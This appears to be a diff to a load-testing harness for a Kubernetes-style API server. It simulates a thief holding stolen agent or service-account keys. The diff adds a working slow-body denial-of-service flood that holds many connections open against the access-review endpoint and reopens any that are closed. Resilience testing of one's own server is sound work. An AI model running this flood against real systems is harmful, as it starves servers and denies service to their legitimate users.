@@ -1,4 +1,5 @@
-// A process with the stolen key of one agent, which floods the server in one way until it is ended. It does what costs most, not what a client would do.
+// A process with the stolen key of one agent, or with the keys of many service accounts, which floods the server in one way until it is ended. It does what
+// costs most, not what a client would do.
 import { Agent, request } from 'node:https'
 import type { IncomingMessage } from 'node:http'
 import { setPriority } from 'node:os'
@@ -6,7 +7,7 @@ import { connect, createSecureContext } from 'node:tls'
 import { assertNever } from '#lib/errors.ts'
 import type { Target } from '../apiserver/load.ts'
 
-export const FLOODS = ['wide', 'events', 'watches', 'lists', 'slow'] as const
+export const FLOODS = ['wide', 'events', 'watches', 'lists', 'slow', 'accounts'] as const
 export type Flood = (typeof FLOODS)[number]
 
 export interface FloodOrder {
@@ -14,6 +15,8 @@ export interface FloodOrder {
   readonly target: Target
   readonly machine: string
   readonly connections: number
+  /** Service accounts without a right, for the flood of that name. */
+  readonly accounts: readonly Target[]
 }
 
 const OURS = '/apis/kubenode.io/v1alpha1'
@@ -62,6 +65,7 @@ function works(flood: Flood, machine: string): (n: number) => Sent {
       return () => ({ method: 'GET', path: `${OURS}/machines?watch=true&allowWatchBookmarks=true` })
     case 'lists':
     case 'slow':
+    case 'accounts':
       return () => ({ method: 'GET', path: `${OURS}/machines` })
     default:
       return assertNever(flood)
@@ -103,33 +107,63 @@ async function closedLoop({ flood, target, machine, connections }: FloodOrder): 
   await Promise.all(Array.from({ length: connections }, loop))
 }
 
-/** A head that promises a body as large as is allowed, then a byte now and then. */
-async function slowBodies({ target, machine, connections }: FloodOrder): Promise<void> {
+const headOf = (method: string, path: string, type: string, length: number): string =>
+  `${method} ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n{`
+
+const slowBodies = ({ target, machine, connections }: FloodOrder): Promise<void> =>
+  heldOpen(target, connections, [headOf('PATCH', `${OURS}/machines/${machine}/status`, STATUS, 65_000)])
+
+const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
+
+/** Bodies that are promised: as large as any may be, and ever smaller, so that nothing is left for those of others. */
+const PROMISED = [3 * 1024 * 1024 - 1, 65_000, 3_000, 100, 8]
+
+/** What every account may ask, with a body that never ends; and a connection with nothing after its answer. */
+const ofAccounts = ({ accounts, connections }: FloodOrder, begun: () => void): Promise<unknown> => {
+  let open = 0
+  const opened = (): void => void (++open === accounts.length * connections && begun())
+  const heads = PROMISED.map((length) => headOf('POST', REVIEWS, 'application/json', length))
+  const idle = 'GET /version HTTP/1.1\r\nhost: x\r\n\r\n'
+  return Promise.all(accounts.map((account) => heldOpen(account, connections, [...heads, idle], opened)))
+}
+
+/** Connections that send one of the heads, then a byte now and then; one that is closed is opened again. */
+async function heldOpen(
+  target: Target,
+  connections: number,
+  heads: readonly string[],
+  opened = (): void => undefined,
+): Promise<void> {
   const { host, port, ca, cert, key } = target
   const secureContext = createSecureContext({ ca, cert, key })
-  const head = `PATCH ${OURS}/machines/${machine}/status HTTP/1.1\r\nhost: x\r\ncontent-type: ${STATUS}\r\ncontent-length: 65000\r\n\r\n{`
-  const loop = async (): Promise<void> => {
+  const loop = async (head: string): Promise<void> => {
     for (;;)
       await new Promise<void>((resolve) => {
         const socket = connect({ host, port, secureContext })
-        const drop = setInterval(() => socket.write(' '), 50)
-        socket.once('secureConnect', () => socket.write(head))
+        const drop = setInterval(() => head.endsWith('{') && socket.write(' '), 50)
+        socket.once('secureConnect', () => {
+          socket.write(head)
+          opened()
+        })
         socket.on('error', () => undefined)
-        socket.resume()
+        // refused: it comes again
+        socket.on('data', () => void (head.endsWith('{') && socket.destroy()))
         socket.once('close', () => {
           clearInterval(drop)
           resolve()
         })
       })
   }
-  await Promise.all(Array.from({ length: connections }, loop))
+  await Promise.all(Array.from({ length: connections }, (_, i) => loop(heads[i % heads.length] ?? '')))
 }
 
 /** A thief has a machine of their own: what their requests cost to make is not what is measured. */
 if (process.send !== undefined) setPriority(19)
 if (process.send !== undefined)
   process.once('message', (order: FloodOrder) => {
-    process.send?.('started')
+    const begun = (): void => void process.send?.('started')
+    if (order.flood === 'accounts') return void ofAccounts(order, begun)
+    begun()
     void (order.flood === 'slow' ? slowBodies(order) : closedLoop(order))
   })
 process.once('disconnect', () => process.exit(0))
